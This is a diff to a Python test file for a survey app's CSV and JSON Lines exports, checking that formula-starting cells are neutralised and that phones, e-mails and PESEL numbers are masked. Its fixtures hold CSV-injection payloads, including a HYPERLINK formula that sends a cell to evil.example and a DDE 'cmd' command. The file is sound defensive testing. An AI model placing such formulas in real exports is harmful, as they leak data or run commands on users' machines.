@@ -1,6 +1,7 @@
 """CSV exports never hand a spreadsheet a formula: a text cell that would start one (=, +, -, @, a tab
 or a carriage return, OWASP's list) gets a ' in front, whether it is an answer or an attribute;
-numbers stay numbers; JSON Lines keeps every value exactly as stored; the data dictionary says so."""
+numbers stay numbers; JSON Lines keeps every value exactly as stored; the data dictionary says so.
+Both mask phone numbers, e-mail addresses and PESEL numbers in free text (issue 20)."""
 
 from __future__ import annotations
 
@@ -44,7 +45,7 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Kliknij")'
 # (district, the idea in its words, the number): what was stored, exactly.
 ANSWERS: list[tuple[str, str, float]] = [
     ("@SUM(1)", HYPERLINK, -3),
-    ("Orunia", "+48 600 100 200", -0.5),
+    ("Orunia", "+SUM(A1:A9)", -0.5),
     ("Wrzeszcz", "-2+3+cmd|' /C calc'!A0", 2.5),
     ("=1+1", "@admin", 7),
     ("Oliwa", "\tz tabulatorem", 0),
@@ -57,7 +58,7 @@ ANSWERS: list[tuple[str, str, float]] = [
 NEUTRALISED = {
     "@SUM(1)": "'@SUM(1)",
     HYPERLINK: "'" + HYPERLINK,
-    "+48 600 100 200": "'+48 600 100 200",
+    "+SUM(A1:A9)": "'+SUM(A1:A9)",
     "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
     "=1+1": "'=1+1",
     "@admin": "'@admin",
@@ -67,8 +68,8 @@ NEUTRALISED = {
 }
 
 
-async def answered(services: Services) -> CampaignRecord:
-    """A campaign whose respondents answered ANSWERS, stored as the pipeline stores them."""
+async def answered(services: Services, answers: list[tuple[str, str, float]] = ANSWERS) -> CampaignRecord:
+    """A campaign whose respondents answered `answers`, stored as the pipeline stores them."""
     record = await create_campaign(services.sessions, load_campaign(CAMPAIGN), clock=services.clock)
     now = datetime(2027, 3, 2, 12, 0, tzinfo=UTC)
     async with services.sessions() as session, session.begin():
@@ -80,7 +81,7 @@ async def answered(services: Services) -> CampaignRecord:
                 "created_at": now,
                 "updated_at": now,
             }
-            for index, (district, _, _) in enumerate(ANSWERS)
+            for index, (district, _, _) in enumerate(answers)
         ]
         ids = list((await session.execute(insert(Resident).returning(col(Resident.id)), rows)).scalars())
         await session.execute(
@@ -97,7 +98,7 @@ async def answered(services: Services) -> CampaignRecord:
                     "language": "pl",
                     "attributes": {"district": district},
                 }
-                for resident_id, (district, idea, number) in zip(ids, ANSWERS, strict=True)
+                for resident_id, (district, idea, number) in zip(ids, answers, strict=True)
                 for question, value in (("idea", idea), ("change", number), ("places", ["park", "plaza"]))
             ],
         )
@@ -143,6 +144,16 @@ async def test_jsonl_keeps_every_value_exact(services: Services) -> None:
         (idea, district) for district, idea, _ in ANSWERS
     ]
     assert [line["value"] for line in lines if line["question"] == "change"] == [number for _, _, number in ANSWERS]
+
+
+async def test_free_text_leaves_with_phones_emails_and_pesels_masked(services: Services) -> None:
+    written = "+48 600 100 200 albo ola.nowak@example.org, PESEL 44051401458, licznik 12345678901"
+    record = await answered(services, [("Orunia", written, 1)])
+    masked = "[phone] albo [email], PESEL [PESEL], licznik 12345678901"
+    csv_rows = csv.DictReader(io.StringIO(await exported(services, record, "csv"), newline=""))
+    assert [row["value"] for row in csv_rows if row["question"] == "idea"] == [masked]
+    jsonl = [json.loads(line) for line in (await exported(services, record, "jsonl")).splitlines()]
+    assert [line["value"] for line in jsonl if line["question"] == "idea"] == [masked]
 
 
 def test_the_data_dictionary_says_how_csv_cells_are_neutralised() -> None:
